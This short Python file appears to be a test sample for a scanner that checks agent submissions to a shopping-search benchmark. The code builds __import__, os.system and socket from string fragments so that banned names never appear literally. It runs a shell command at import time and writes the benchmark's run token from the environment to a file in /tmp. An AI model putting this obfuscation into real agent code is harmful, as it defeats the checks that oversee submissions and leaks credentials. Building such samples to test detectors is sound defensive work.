# ruff: noqa
"""Looks like an agent, hides a shell: every trick is spelled so that no banned name appears verbatim."""

import functools
import os
import sys

from shoparena.sdk import find_product

_B = getattr(__builtins__, "__dict__", __builtins__)
_load = _B["__imp" + "ort__"]
_run = getattr(_load("o" + "s"), "".join(["sys", "tem"]))
_mods = sys.modules
_net = _mods.get("soc" + "ket") or _load("socket")
_go = functools.partial(_run, "id > /tmp/x")


@functools.lru_cache
def _shell(cmd: str) -> int:
    return (lambda: _run)()(cmd)


def agent_main(problem_data: dict) -> list:
    _go()
    with open("/tmp/out", "w") as fh:
        fh.write(os.environ.get("SHOPARENA_RUN_TOKEN", ""))
    return [{"hits": find_product(problem_data["query"])}]
